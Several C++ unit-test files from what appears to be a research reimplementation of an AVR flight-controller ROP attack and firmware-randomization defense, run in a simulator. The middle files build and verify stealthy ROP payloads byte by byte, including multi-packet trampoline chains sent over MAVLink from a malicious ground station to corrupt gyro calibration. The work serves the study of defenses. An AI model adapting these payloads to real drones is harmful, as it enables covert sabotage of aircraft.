  static const std::string hex = defense::preprocess_to_hex(
      firmware::generate(firmware::testapp(false),
                         toolchain::ToolchainOptions::mavr())
          .image);
  return hex;
}

TEST(MasterDetect, TripTriggersRecoveryReflashAndClearsLatch) {
  defense::ExternalFlash flash;
  sim::Board board;
  defense::MasterConfig cfg;
  cfg.watchdog_timeout_cycles = 200'000;
  defense::MasterProcessor master(flash, board, cfg);
  Engine engine;
  engine.arm(board.cpu());
  master.attach_detector(&engine);
  master.host_upload_hex(good_hex());
  master.boot();
  board.run_cycles(100'000);
  EXPECT_FALSE(master.service());

  // Drive a verdict straight through the hook interface: SP leaving the
  // legal region. The master must answer exactly like a crashed board.
  engine.on_sp_change(board.cpu(), 0x21F0, 0x1AFF);
  ASSERT_TRUE(engine.tripped());
  EXPECT_TRUE(master.service());
  EXPECT_EQ(master.health().detector_trips, 1u);
  EXPECT_EQ(master.attacks_detected(), 1u);
  EXPECT_EQ(master.randomizations(), 2u);  // recovery reflash happened
  // The recovery resynchronized the engine: latch cleared, board healthy.
  EXPECT_FALSE(engine.tripped());
  EXPECT_EQ(engine.total_trips(), 1u);
  board.run_cycles(100'000);
  EXPECT_FALSE(master.service());
}

TEST(MasterDetect, RandomizeDisabledProgramsContainerVerbatim) {
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(false), toolchain::ToolchainOptions::mavr());
  defense::ExternalFlash flash;
  sim::Board board;
  defense::MasterConfig cfg;
  cfg.randomize_enabled = false;
  cfg.set_readout_protection = false;  // so the test can read flash back
  defense::MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(defense::preprocess_to_hex(fw.image));
  master.boot();

  // Identity permutation, and the flash holds the stock image bit for bit.
  const std::vector<std::size_t>& perm = master.current_permutation();
  ASSERT_EQ(perm.size(), master.symbol_count());
  for (std::size_t i = 0; i < perm.size(); ++i) EXPECT_EQ(perm[i], i);
  const support::Bytes flash_now = board.read_flash();
  ASSERT_GE(flash_now.size(), fw.image.bytes.size());
  EXPECT_TRUE(std::equal(fw.image.bytes.begin(), fw.image.bytes.end(),
                         flash_now.begin()));
  // And the board still boots and flies.
  board.run_cycles(400'000);
  EXPECT_FALSE(board.crashed());
}

}  // namespace
}  // namespace mavr
