// Gadget-finder unit tests on hand-assembled code, plus ROP chain layout
// verification at the byte level.
#include <gtest/gtest.h>

#include "attack/gadgets.hpp"
#include "attack/rop.hpp"
#include "avr/mcu.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using namespace mavr::toolchain;
using attack::GadgetFinder;
using attack::RopChainBuilder;
using attack::StkMoveGadget;
using attack::VictimFrame;
using attack::Write3;
using attack::WriteMemGadget;
using avr::Op;

support::Bytes words_to_bytes(std::initializer_list<std::uint16_t> words) {
  support::Bytes out;
  for (std::uint16_t w : words) {
    out.push_back(static_cast<std::uint8_t>(w & 0xFF));
    out.push_back(static_cast<std::uint8_t>(w >> 8));
  }
  return out;
}

TEST(GadgetFinder, RecognizesFig4StkMove) {
  const support::Bytes code = words_to_bytes({
      enc_adiw(Op::Adiw, 28, 8),      // teardown prefix (not part of gadget)
      enc_in(0, avr::kIoSreg),
      enc_out(avr::kIoSph, 29),       // <-- gadget entry
      enc_out(avr::kIoSreg, 0),
      enc_out(avr::kIoSpl, 28),
      enc_pop(29),
      enc_pop(28),
      enc_pop(16),
      enc_no_operand(Op::Ret),
  });
  GadgetFinder finder(code, static_cast<std::uint32_t>(code.size()));
  ASSERT_EQ(finder.stk_moves().size(), 1u);
  const StkMoveGadget& g = finder.stk_moves()[0];
  EXPECT_EQ(g.entry_byte_addr, 4u);  // at the out SPH
  EXPECT_EQ(g.pops, std::vector<std::uint8_t>({29, 28, 16}));
  EXPECT_EQ(finder.census().ret_gadgets, 1u);
}

TEST(GadgetFinder, RecognizesFig5WriteMem) {
  std::initializer_list<std::uint16_t> words = {
      enc_std(true, 1, 5), enc_std(true, 2, 6), enc_std(true, 3, 7),
      enc_pop(29), enc_pop(28), enc_pop(17), enc_pop(16), enc_pop(15),
      enc_pop(14), enc_pop(13), enc_pop(12), enc_pop(11), enc_pop(10),
      enc_pop(9),  enc_pop(8),  enc_pop(7),  enc_pop(6),  enc_pop(5),
      enc_pop(4),  enc_no_operand(Op::Ret),
  };
  const support::Bytes code = words_to_bytes(words);
  GadgetFinder finder(code, static_cast<std::uint32_t>(code.size()));
  ASSERT_EQ(finder.write_mems().size(), 1u);
  const WriteMemGadget& g = finder.write_mems()[0];
  EXPECT_EQ(g.store_entry_byte_addr, 0u);
  EXPECT_EQ(g.pop_entry_byte_addr, 6u);
  EXPECT_EQ(g.pops.size(), 16u);
  EXPECT_EQ(g.pops[0], 29);
  EXPECT_EQ(g.pops.back(), 4);
  EXPECT_EQ(finder.census().pop_chain_gadgets, 1u);
}

TEST(GadgetFinder, RejectsNearMisses) {
  // Wrong store order (std Y+2 first) must not match write_mem.
  const support::Bytes wrong_order = words_to_bytes({
      enc_std(true, 2, 5), enc_std(true, 1, 6), enc_std(true, 3, 7),
      enc_pop(29), enc_pop(28), enc_pop(7), enc_pop(6), enc_pop(5),
      enc_no_operand(Op::Ret),
  });
  GadgetFinder f1(wrong_order, static_cast<std::uint32_t>(wrong_order.size()));
  EXPECT_TRUE(f1.write_mems().empty());

  // stk_move without the SPL write must not match.
  const support::Bytes no_spl = words_to_bytes({
      enc_out(avr::kIoSph, 29), enc_out(avr::kIoSreg, 0),
      enc_out(0x20, 28), enc_pop(28), enc_no_operand(Op::Ret),
  });
  GadgetFinder f2(no_spl, static_cast<std::uint32_t>(no_spl.size()));
  EXPECT_TRUE(f2.stk_moves().empty());

  // A pop run that cannot reload Y is not a chainable write_mem.
  const support::Bytes no_y = words_to_bytes({
      enc_std(true, 1, 5), enc_std(true, 2, 6), enc_std(true, 3, 7),
      enc_pop(7), enc_pop(6), enc_pop(5), enc_pop(4), enc_pop(3),
      enc_no_operand(Op::Ret),
  });
  GadgetFinder f3(no_y, static_cast<std::uint32_t>(no_y.size()));
  EXPECT_TRUE(f3.write_mems().empty());
}

TEST(GadgetFinder, ScanStopsAtTextEnd) {
  support::Bytes code = words_to_bytes({enc_no_operand(Op::Ret)});
  const support::Bytes data = words_to_bytes({enc_no_operand(Op::Ret)});
  code.insert(code.end(), data.begin(), data.end());
  GadgetFinder finder(code, 2);  // text ends before the second "ret"
  EXPECT_EQ(finder.census().ret_gadgets, 1u);
}

TEST(GadgetFinder, EmptyTextRegionYieldsEmptyCensus) {
  const support::Bytes code = words_to_bytes({enc_no_operand(Op::Ret)});
  GadgetFinder with_code(code, 0);  // text_end = 0: nothing executable
  EXPECT_EQ(with_code.census().total(), 0u);
  EXPECT_TRUE(with_code.stk_moves().empty());
  EXPECT_TRUE(with_code.write_mems().empty());

  GadgetFinder no_image(std::span<const std::uint8_t>{}, 0x1000);
  EXPECT_EQ(no_image.census().total(), 0u);
}

TEST(GadgetFinder, TextEndPastImageIsClamped) {
  // A text_end claiming more code than the image holds (truncated blob)
  // must clamp to the image, not read past it.
  const support::Bytes code = words_to_bytes(
      {enc_pop(29), enc_pop(28), enc_no_operand(Op::Ret)});
  GadgetFinder finder(code, 0x0002'0000);
  EXPECT_EQ(finder.census().ret_gadgets, 1u);
}

TEST(GadgetFinder, ImageEndingMidInstructionIsSafe) {
  // The last word is the first half of a 32-bit CALL: the sweep must treat
  // the missing second word as absent (no out-of-bounds read) and stop.
  const support::Bytes truncated = words_to_bytes(
      {enc_no_operand(Op::Ret), enc_abs_jump(Op::Call, 0x1234).first});
  GadgetFinder f1(truncated, static_cast<std::uint32_t>(truncated.size()));
  EXPECT_EQ(f1.census().ret_gadgets, 1u);

  // An odd text_end truncates the trailing partial word but keeps every
  // instruction that fits whole before it.
  GadgetFinder f2(truncated, 3);
  EXPECT_EQ(f2.census().ret_gadgets, 1u);
  GadgetFinder f3(truncated, 1);  // not even one word fits
  EXPECT_EQ(f3.census().ret_gadgets, 0u);
}

TEST(GadgetFinder, CensusTotalCountsEachRetSequenceOnce) {
  // The Fig. 5 sequence is simultaneously a ret gadget, a write_mem gadget
  // and a pop-chain. total() adds the mid-sequence entry points (stk_move,
  // write_mem) but not pop_chain_gadgets — every pop-chain already *is*
  // one of the counted ret gadgets, entered at the same pop run.
  const support::Bytes code = words_to_bytes({
      enc_std(true, 1, 5), enc_std(true, 2, 6), enc_std(true, 3, 7),
      enc_pop(29), enc_pop(28), enc_pop(7), enc_pop(6), enc_pop(5),
      enc_no_operand(Op::Ret),
  });
  GadgetFinder finder(code, static_cast<std::uint32_t>(code.size()));
  const attack::GadgetCensus& c = finder.census();
  EXPECT_EQ(c.ret_gadgets, 1u);
  EXPECT_EQ(c.write_mem_gadgets, 1u);
  EXPECT_EQ(c.pop_chain_gadgets, 1u);
  EXPECT_EQ(c.total(), 2u);  // ret + write_mem entries; pop-chain not added
}

TEST(GadgetFinder, CensusPinnedOnTestappImage) {
  // Pin the census on the stock test application so a decoder or scanner
  // regression shows up as a concrete number, not a vague drift. The
  // vulnerable flag only changes the parser's bounds check, not codegen
  // that the scanner sees as gadget material.
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());
  GadgetFinder finder(fw.image);
  const attack::GadgetCensus& c = finder.census();
  EXPECT_EQ(c.ret_gadgets, 96u);
  EXPECT_EQ(c.stk_move_gadgets, 23u);
  EXPECT_EQ(c.write_mem_gadgets, 4u);
  EXPECT_EQ(c.pop_chain_gadgets, 20u);
  EXPECT_EQ(c.total(), 123u);
  EXPECT_EQ(c.total(),
            c.ret_gadgets + c.stk_move_gadgets + c.write_mem_gadgets);
}

// --- RopChainBuilder byte-level layout ---------------------------------------

class RopLayoutTest : public ::testing::Test {
 protected:
  RopLayoutTest() {
    stk_.entry_byte_addr = 0x5D64;
    stk_.pops = {29, 28, 16};
    wm_.store_entry_byte_addr = 0x1B284;
    wm_.pop_entry_byte_addr = 0x1B28A;
    wm_.pops = {29, 28, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4};
    frame_.p = 0x21D0;
    frame_.frame_bytes = 98;
    frame_.buffer_addr = 0x216D;
    frame_.ram_end = 0x21FF;
    frame_.regs_at_entry[28] = 0xAA;
    frame_.regs_at_entry[29] = 0x21;
    frame_.regs_at_entry[16] = 0x07;
    frame_.ret_bytes = {0x00, 0x01, 0x87};
  }

  StkMoveGadget stk_;
  WriteMemGadget wm_;
  VictimFrame frame_;
};

TEST_F(RopLayoutTest, V2PayloadStructure) {
  RopChainBuilder builder(stk_, wm_, frame_);
  const Write3 write{0x020E, {0x34, 0x12, 0x00}};
  const support::Bytes payload = builder.v2_payload({write});

  // Total: frame + saved Y (2) + return address (3).
  ASSERT_EQ(payload.size(), 98u + 2 + 3);
  // Saved-Y slots hold the pivot target buffer-1, high byte first
  // (pop r29 from P-1 then pop r28 from P).
  EXPECT_EQ(payload[98], (frame_.buffer_addr - 1) >> 8);
  EXPECT_EQ(payload[99], (frame_.buffer_addr - 1) & 0xFF);
  // Overwritten return address = stk_move entry as a 3-byte BE word addr.
  const std::uint32_t word = 0x5D64 / 2;
  EXPECT_EQ(payload[100], (word >> 16) & 0xFF);
  EXPECT_EQ(payload[101], (word >> 8) & 0xFF);
  EXPECT_EQ(payload[102], word & 0xFF);
  // Chain: |stk.pops| junk then the wm pop-entry address.
  const std::uint32_t wm_word = 0x1B28A / 2;
  EXPECT_EQ(payload[3], (wm_word >> 16) & 0xFF);
  EXPECT_EQ(payload[4], (wm_word >> 8) & 0xFF);
  EXPECT_EQ(payload[5], wm_word & 0xFF);
}

TEST_F(RopLayoutTest, V2ChainEncodesWriteValues) {
  RopChainBuilder builder(stk_, wm_, frame_);
  const Write3 write{0x020E, {0x34, 0x12, 0x00}};
  const support::Bytes payload = builder.v2_payload({write});
  // First wm chunk starts after junk(3) + entry(3). Pops are
  // [r29 r28 r17 ... r4]; r29/r28 take Y = addr-1; r7/r6/r5 take values.
  const std::size_t chunk = 6;
  EXPECT_EQ(payload[chunk + 0], (0x020E - 1) >> 8);    // r29
  EXPECT_EQ(payload[chunk + 1], (0x020E - 1) & 0xFF);  // r28
  // pops index: r7 at 12, r6 at 13, r5 at 14.
  EXPECT_EQ(payload[chunk + 12], 0x00);  // r7 = byte2
  EXPECT_EQ(payload[chunk + 13], 0x12);  // r6 = byte1
  EXPECT_EQ(payload[chunk + 14], 0x34);  // r5 = byte0
  // Next gadget: the store entry.
  const std::uint32_t store_word = 0x1B284 / 2;
  EXPECT_EQ(payload[chunk + 16], (store_word >> 16) & 0xFF);
  EXPECT_EQ(payload[chunk + 17], (store_word >> 8) & 0xFF);
  EXPECT_EQ(payload[chunk + 18], store_word & 0xFF);
}

TEST_F(RopLayoutTest, CapacityMatchesBufferArithmetic) {
  RopChainBuilder builder(stk_, wm_, frame_);
  // fixed = 3 junk + 3 entry + 19 pivot round = 25; repairs = 2 rounds.
  // (98 - 25) / 19 = 3 rounds -> 1 attacker write.
  EXPECT_EQ(builder.v2_write_capacity(), 1u);
  // And v2 with more writes than capacity must refuse.
  std::vector<Write3> too_many(4, Write3{0x0300, {1, 2, 3}});
  EXPECT_THROW(builder.v2_payload(too_many), support::PreconditionError);
}

TEST_F(RopLayoutTest, V3PacketCountScalesWithChainSize) {
  RopChainBuilder builder(stk_, wm_, frame_);
  std::vector<Write3> writes;
  for (int i = 0; i < 6; ++i) {
    writes.push_back(Write3{static_cast<std::uint16_t>(0x0300 + 3 * i),
                            {1, 2, 3}});
  }
  const support::Bytes chain = builder.staged_chain(0x1B00, writes);
  const auto packets = builder.v3_payloads(0x1B00, writes);
  // ceil(chain/3) staging packets (capacity 1 write each) + 1 trigger.
  EXPECT_EQ(packets.size(), (chain.size() + 2) / 3 + 1);
  // Trigger pivots straight to the staging area.
  const support::Bytes& trigger = packets.back();
  EXPECT_EQ(trigger[98], (0x1B00 - 1) >> 8);
  EXPECT_EQ(trigger[99], (0x1B00 - 1) & 0xFF);
}

TEST_F(RopLayoutTest, RepairRestoresCapturedState) {
  RopChainBuilder builder(stk_, wm_, frame_);
  const support::Bytes chain =
      builder.staged_chain(0x1B00, {Write3{0x0300, {9, 9, 9}}});
  // The repair writes land in the chain as wm rounds; the final round
  // loads Y_pivot = P - |stk.pops| and returns to the stk gadget.
  const std::size_t last_round = chain.size() - 19;
  const std::uint16_t y_pivot = frame_.p - 3;
  EXPECT_EQ(chain[last_round + 0], y_pivot >> 8);
  EXPECT_EQ(chain[last_round + 1], y_pivot & 0xFF);
  const std::uint32_t stk_word = 0x5D64 / 2;
  EXPECT_EQ(chain[last_round + 16], (stk_word >> 16) & 0xFF);
  EXPECT_EQ(chain[last_round + 17], (stk_word >> 8) & 0xFF);
  EXPECT_EQ(chain[last_round + 18], stk_word & 0xFF);
}

TEST(WritesFor, SplitsWithOverlappingTail) {
  const auto writes = attack::writes_for(0x1000, {1, 2, 3, 4, 5});
  ASSERT_EQ(writes.size(), 2u);
  EXPECT_EQ(writes[0].addr, 0x1000);
  EXPECT_EQ(writes[0].bytes, (std::array<std::uint8_t, 3>{1, 2, 3}));
  EXPECT_EQ(writes[1].addr, 0x1002);  // overlaps byte 2 consistently
  EXPECT_EQ(writes[1].bytes, (std::array<std::uint8_t, 3>{3, 4, 5}));
  EXPECT_THROW(attack::writes_for(0, {1, 2}), support::PreconditionError);
}

}  // namespace
}  // namespace mavr
