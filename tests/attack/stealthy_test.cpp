// End-to-end reproduction of paper §IV: gadget discovery, traditional ROP
// (V1), stealthy ROP with clean return (V2) and the trampoline attack (V3),
// all delivered as MAVLink packets from a (malicious) ground station.
#include <gtest/gtest.h>

#include "attack/attacks.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

namespace mavr {
namespace {

using attack::AttackPlan;
using attack::Write3;

class StealthyAttackTest : public ::testing::Test {
 protected:
  static const firmware::Firmware& fw() {
    static firmware::Firmware fw = firmware::generate(
        firmware::testapp(/*vulnerable=*/true),
        toolchain::ToolchainOptions::mavr());
    return fw;
  }
  static const AttackPlan& plan() {
    static AttackPlan plan = attack::analyze(fw().image);
    return plan;
  }

  void boot() {
    board_.flash_image(fw().image.bytes);
    board_.run_cycles(300'000);
    ASSERT_EQ(board_.cpu().state(), avr::CpuState::Running);
  }

  std::uint8_t ram(std::uint16_t addr) const {
    return board_.cpu().data().raw(addr);
  }

  sim::Board board_;
};

TEST_F(StealthyAttackTest, FindsThePaperGadgets) {
  const AttackPlan& p = plan();
  EXPECT_FALSE(p.stk.pops.empty());
  EXPECT_GE(p.wm.pops.size(), 16u);  // r29, r28, r17..r4 (Fig. 5)
  EXPECT_EQ(p.wm.pops[0], 29);
  EXPECT_EQ(p.wm.pops[1], 28);
  EXPECT_GT(p.census.ret_gadgets, 50u);
  EXPECT_GT(p.gyro_cal_addr, 0u);
}

TEST_F(StealthyAttackTest, ProbeMatchesStaticLayout) {
  const attack::VictimFrame& f = plan().frame;
  EXPECT_EQ(f.frame_bytes, firmware::kVulnFrameBytes);
  EXPECT_EQ(f.buffer_addr, f.p - f.frame_bytes - 1);
  // The pushed return address must point back into mav_handle's body.
  const std::uint32_t ret_words = (std::uint32_t{f.ret_bytes[0]} << 16) |
                                  (std::uint32_t{f.ret_bytes[1]} << 8) |
                                  f.ret_bytes[2];
  const toolchain::Symbol* handle = fw().image.find("mav_handle");
  ASSERT_NE(handle, nullptr);
  EXPECT_GE(ret_words * 2, handle->addr);
  EXPECT_LT(ret_words * 2, handle->addr + handle->size);
}

TEST_F(StealthyAttackTest, V1WritesMemoryButCrashesTheBoard) {
  boot();
  sim::GroundStation gcs(board_);
  const Write3 write{plan().gyro_cal_addr, {0xD1, 0x07, 0x00}};
  gcs.send_raw_param_set(plan().builder().v1_payload(write));
  board_.run_cycles(4'000'000);

  // The write landed...
  EXPECT_EQ(ram(plan().gyro_cal_addr), 0xD1);
  EXPECT_EQ(ram(plan().gyro_cal_addr + 1), 0x07);
  // ...but the smashed stack killed the victim: the feed line goes quiet
  // (detectable from the master / ground station).
  const std::uint64_t feeds = board_.feed_line().write_count();
  board_.run_cycles(2'000'000);
  EXPECT_EQ(board_.feed_line().write_count(), feeds);
}

TEST_F(StealthyAttackTest, V2WritesMemoryAndReturnsCleanly) {
  boot();
  sim::GroundStation gcs(board_);
  board_.run_cycles(500'000);
  gcs.poll();
  const std::uint64_t packets_before_attack = gcs.packets_received();

  const Write3 write{plan().gyro_cal_addr, {0x34, 0x12, 0x00}};
  gcs.send_raw_param_set(plan().builder().v2_payload({write}));
  board_.run_cycles(4'000'000);

  // Sensor calibration skewed...
  EXPECT_EQ(ram(plan().gyro_cal_addr), 0x34);
  EXPECT_EQ(ram(plan().gyro_cal_addr + 1), 0x12);
  // ...and the victim keeps flying: no fault, watchdog still fed,
  // telemetry still streaming and parseable.
  EXPECT_EQ(board_.cpu().state(), avr::CpuState::Running);
  const std::uint64_t feeds = board_.feed_line().write_count();
  board_.run_cycles(1'000'000);
  EXPECT_GT(board_.feed_line().write_count(), feeds);
  gcs.poll();
  EXPECT_GT(gcs.packets_received(), packets_before_attack);
  EXPECT_EQ(gcs.garbage_bytes(), 0u);
}

TEST_F(StealthyAttackTest, V2VictimStillHandlesMessagesAfterAttack) {
  boot();
  sim::GroundStation gcs(board_);
  const Write3 write{plan().gyro_cal_addr, {0x34, 0x12, 0x00}};
  gcs.send_raw_param_set(plan().builder().v2_payload({write}));
  board_.run_cycles(4'000'000);
  ASSERT_EQ(board_.cpu().state(), avr::CpuState::Running);

  // The repaired stack must support normal message handling afterwards.
  const toolchain::DataSymbol* hb = fw().image.find_data("g_hb_count");
  ASSERT_NE(hb, nullptr);
  const std::uint8_t before = ram(hb->ram_addr);
  gcs.send_heartbeat();
  board_.run_cycles(1'500'000);
  EXPECT_EQ(ram(hb->ram_addr), static_cast<std::uint8_t>(before + 1));
}

TEST_F(StealthyAttackTest, V2AffectsTelemetryStealthily) {
  boot();
  sim::GroundStation gcs(board_);
  board_.set_gyro(0, 100);
  board_.run_cycles(2'000'000);
  gcs.poll();
  ASSERT_TRUE(gcs.last_imu().has_value());
  EXPECT_EQ(gcs.last_imu()->xgyro, 100);

  // Skew the calibration by +0x0200 counts.
  const Write3 write{plan().gyro_cal_addr, {0x00, 0x02, 0x00}};
  gcs.send_raw_param_set(plan().builder().v2_payload({write}));
  board_.run_cycles(4'000'000);
  gcs.poll();
  ASSERT_EQ(board_.cpu().state(), avr::CpuState::Running);
  EXPECT_EQ(gcs.last_imu()->xgyro, 100 + 0x0200);
  EXPECT_EQ(gcs.garbage_bytes(), 0u);
}

TEST_F(StealthyAttackTest, V3StagesAndExecutesLargePayload) {
  boot();
  sim::GroundStation gcs(board_);

  // A payload beyond what one 96-byte buffer can carry: rewrite the whole
  // 12-byte calibration + setpoint block in one staged chain, delivered as
  // dozens of clean-return staging packets plus one trigger (paper §IV-E).
  const toolchain::DataSymbol* cal = fw().image.find_data("g_gyro_cal");
  const toolchain::DataSymbol* setpoint = fw().image.find_data("g_setpoint");
  ASSERT_NE(cal, nullptr);
  ASSERT_NE(setpoint, nullptr);
  ASSERT_EQ(setpoint->ram_addr, cal->ram_addr + 6);  // contiguous block
  std::vector<Write3> writes;
  for (std::uint16_t i = 0; i < 4; ++i) {
    writes.push_back(Write3{static_cast<std::uint16_t>(cal->ram_addr + i * 3),
                            {static_cast<std::uint8_t>(0x40 + i),
                             static_cast<std::uint8_t>(0x50 + i),
                             static_cast<std::uint8_t>(0x60 + i)}});
  }
  // One V2 packet cannot carry this chain...
  EXPECT_GT(writes.size(), plan().builder().v2_write_capacity());

  const std::uint16_t staging = 0x1B00;  // unused high SRAM
  const auto packets = plan().builder().v3_payloads(staging, writes);
  EXPECT_GT(packets.size(), 3u);  // staging really is multi-packet

  for (const auto& packet : packets) {
    gcs.send_raw_param_set(packet);
    board_.run_cycles(4'000'000);
    ASSERT_EQ(board_.cpu().state(), avr::CpuState::Running);
  }
  for (std::uint16_t i = 0; i < 4; ++i) {
    EXPECT_EQ(ram(cal->ram_addr + i * 3), 0x40 + i);
    EXPECT_EQ(ram(cal->ram_addr + i * 3 + 1), 0x50 + i);
    EXPECT_EQ(ram(cal->ram_addr + i * 3 + 2), 0x60 + i);
  }
  // Still flying, still feeding, still talking.
  const std::uint64_t feeds = board_.feed_line().write_count();
  board_.run_cycles(1'000'000);
  EXPECT_GT(board_.feed_line().write_count(), feeds);
}

}  // namespace
}  // namespace mavr
