// The analysis plane's headline contracts on the stock test application
// (DESIGN.md §15): the whole-image report's census equals the attacker's
// own GadgetFinder census, the derived per-function policy is strictly
// tighter than the generic whole-image masks, and a rerandomized layout
// hits the content-addressed cache function-by-function while reproducing
// the cold analysis bit for bit.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analysis/analyze.hpp"
#include "attack/gadgets.hpp"
#include "defense/patcher.hpp"
#include "detect/policy.hpp"
#include "firmware/generator.hpp"
#include "support/rng.hpp"
#include "toolchain/image.hpp"

namespace mavr {
namespace {

using analysis::AnalysisReport;
using detect::io_bit_count;
using detect::IoBitset;

const firmware::Firmware& fw() {
  static const firmware::Firmware firmware = firmware::generate(
      firmware::testapp(/*vulnerable=*/true), toolchain::ToolchainOptions::mavr());
  return firmware;
}

const toolchain::SymbolBlob& blob() {
  static const toolchain::SymbolBlob b =
      toolchain::SymbolBlob::from_image(fw().image);
  return b;
}

AnalysisReport analyze_base() {
  analysis::AnalysisCache cache;
  return analysis::Analyzer(&cache).analyze(fw().image.bytes, blob());
}

// --- Whole-image report pins -------------------------------------------------

TEST(AnalysisPolicy, ReportPinnedOnTestapp) {
  const AnalysisReport r = analyze_base();
  EXPECT_EQ(r.n_functions, 96u);
  EXPECT_EQ(r.census.ret_gadgets, 96u);
  EXPECT_EQ(r.census.stk_move_gadgets, 23u);
  EXPECT_EQ(r.census.write_mem_gadgets, 4u);
  EXPECT_EQ(r.census.pop_chain_gadgets, 20u);
  EXPECT_EQ(r.census.total(), 123u);
  EXPECT_EQ(r.gadgets.size(), r.census.total());
  EXPECT_EQ(r.tainted_functions, 63u);
  EXPECT_EQ(r.io_bounded, 87u);
  EXPECT_EQ(r.ret_bounded, 96u);
}

TEST(AnalysisPolicy, CensusEqualsWholeImageGadgetFinder) {
  // The per-function records plus the inter-function gap sweep must add up
  // to exactly what one flat GadgetFinder pass over the image finds — the
  // decomposition may not invent or lose gadget material.
  const AnalysisReport r = analyze_base();
  const attack::GadgetFinder finder(fw().image);
  const attack::GadgetCensus& flat = finder.census();
  EXPECT_EQ(r.census.ret_gadgets, flat.ret_gadgets);
  EXPECT_EQ(r.census.stk_move_gadgets, flat.stk_move_gadgets);
  EXPECT_EQ(r.census.write_mem_gadgets, flat.write_mem_gadgets);
  EXPECT_EQ(r.census.pop_chain_gadgets, flat.pop_chain_gadgets);
  // Site-by-site: same addresses, same kinds, in the same order.
  ASSERT_EQ(r.gadgets.size(), finder.sites().size());
  for (std::size_t i = 0; i < r.gadgets.size(); ++i) {
    EXPECT_EQ(r.gadgets[i].byte_addr, finder.sites()[i].byte_addr);
    EXPECT_EQ(r.gadgets[i].kind, finder.sites()[i].kind);
    EXPECT_EQ(r.gadgets[i].pop_count, finder.sites()[i].pop_count);
  }
}

TEST(AnalysisPolicy, TaintRankingIsCoherent) {
  const AnalysisReport r = analyze_base();
  ASSERT_EQ(r.taint_depth.size(), r.n_functions);
  double weighted = 0.0;
  std::uint32_t reachable = 0;
  for (const analysis::RankedGadget& g : r.gadgets) {
    if (g.depth >= 0) {
      ++reachable;
      EXPECT_DOUBLE_EQ(g.weight, 1.0 / (1.0 + g.depth));
      ASSERT_GE(g.func, 0);
      EXPECT_EQ(g.depth, r.taint_depth[static_cast<std::size_t>(g.func)]);
    } else {
      EXPECT_EQ(g.weight, 0.0);
    }
    weighted += g.weight;
  }
  EXPECT_GT(reachable, 0u);
  EXPECT_LT(reachable, r.gadgets.size());  // some gadgets stay unreachable
  EXPECT_DOUBLE_EQ(weighted, r.weighted_total);
  EXPECT_DOUBLE_EQ(r.weighted_total,
                   r.weighted_ret + r.weighted_stk_move + r.weighted_write_mem);
}

// --- Strictly tighter than the generic masks ---------------------------------

TEST(AnalysisPolicy, DerivedPolicyStrictlyTighterThanGeneric) {
  const AnalysisReport r = analyze_base();
  ASSERT_EQ(r.policy.functions.size(), r.n_functions);

  // I/O privilege. The generic store detector allows every address below
  // kPolicyIoSpan to every function; a bounded function may only keep its
  // provable footprint. Strictness: every bounded set is a proper subset
  // of the window, and at least one bounded function is a proper subset
  // even of the *image-wide union* of provable writes.
  IoBitset image_union{};
  std::uint32_t bounded = 0;
  for (const detect::FuncPolicy& f : r.policy.functions) {
    if (f.io_unbounded) continue;
    ++bounded;
    EXPECT_LT(io_bit_count(f.io_allow), detect::kPolicyIoSpan);
    for (std::size_t w = 0; w < f.io_allow.size(); ++w) {
      image_union[w] |= f.io_allow[w];
    }
  }
  EXPECT_EQ(bounded, r.io_bounded);
  bool proper_io_subset = false;
  for (const detect::FuncPolicy& f : r.policy.functions) {
    if (!f.io_unbounded &&
        io_bit_count(f.io_allow) < io_bit_count(image_union)) {
      proper_io_subset = true;
    }
  }
  EXPECT_TRUE(proper_io_subset);

  // Return edges. Generic CFI accepts any call-site successor in the
  // image; a bounded function keeps only the successors of its own
  // callers. Strictness: no function's site set reaches the generic
  // population, and functions nobody calls keep zero legitimate returns.
  const std::uint32_t generic_ret_targets =
      r.call_edges + r.indirect_call_sites;
  bool uncalled_function = false;
  for (const detect::FuncPolicy& f : r.policy.functions) {
    if (f.ret_unbounded) continue;
    EXPECT_LT(f.ret_sites.size(), generic_ret_targets);
    if (f.ret_sites.empty()) uncalled_function = true;
  }
  EXPECT_TRUE(uncalled_function);
}

TEST(AnalysisPolicy, MaterializedPolicyBindsToConcreteLayout) {
  const AnalysisReport r = analyze_base();
  const detect::MaterializedPolicy mat = detect::MaterializedPolicy::materialize(
      r.policy, blob().function_addrs, blob().function_sizes);
  ASSERT_FALSE(mat.empty());
  for (std::size_t i = 0; i < blob().function_addrs.size(); ++i) {
    if (blob().function_sizes[i] == 0) continue;
    const std::uint32_t pc_words = blob().function_addrs[i] / 2;
    EXPECT_EQ(mat.function_containing(pc_words), static_cast<int>(i));
  }
  // Bound vs. unbounded I/O semantics survive materialization.
  for (std::size_t i = 0; i < r.policy.functions.size(); ++i) {
    const detect::FuncPolicy& f = r.policy.functions[i];
    const int idx = static_cast<int>(i);
    if (f.io_unbounded) {
      EXPECT_TRUE(mat.io_allowed(idx, 0x1FF));
    } else {
      EXPECT_EQ(mat.io_allowed(idx, 0x1FF),
                detect::io_bit_test(f.io_allow, 0x1FF));
    }
  }
}

// --- Cache reuse across rerandomization --------------------------------------

TEST(AnalysisPolicy, RerandomizedImageHitsCacheWithIdenticalReport) {
  analysis::AnalysisCache shared;
  analysis::Analyzer warm(&shared);
  const AnalysisReport base = warm.analyze(fw().image.bytes, blob());
  EXPECT_EQ(base.cache_misses, base.n_functions);
  EXPECT_EQ(base.cache_hits, 0u);

  // A fresh permutation: same blob order (stable indices), new addresses.
  support::Rng rng(0x90'1d'5eedu);
  const defense::RandomizeResult result =
      defense::randomize_image(fw().image.bytes, blob(), rng);
  ASSERT_GT(result.moved_functions, 0u);
  toolchain::SymbolBlob permuted = blob();
  permuted.function_addrs = result.new_addrs;

  const AnalysisReport cached = warm.analyze(result.image, permuted);
  EXPECT_EQ(cached.cache_misses, 0u);
  EXPECT_EQ(cached.cache_hits, cached.n_functions);

  // Bit-identity: a cold analysis of the same permuted image renders the
  // same report text (cache counters are excluded from the rendering).
  analysis::AnalysisCache fresh;
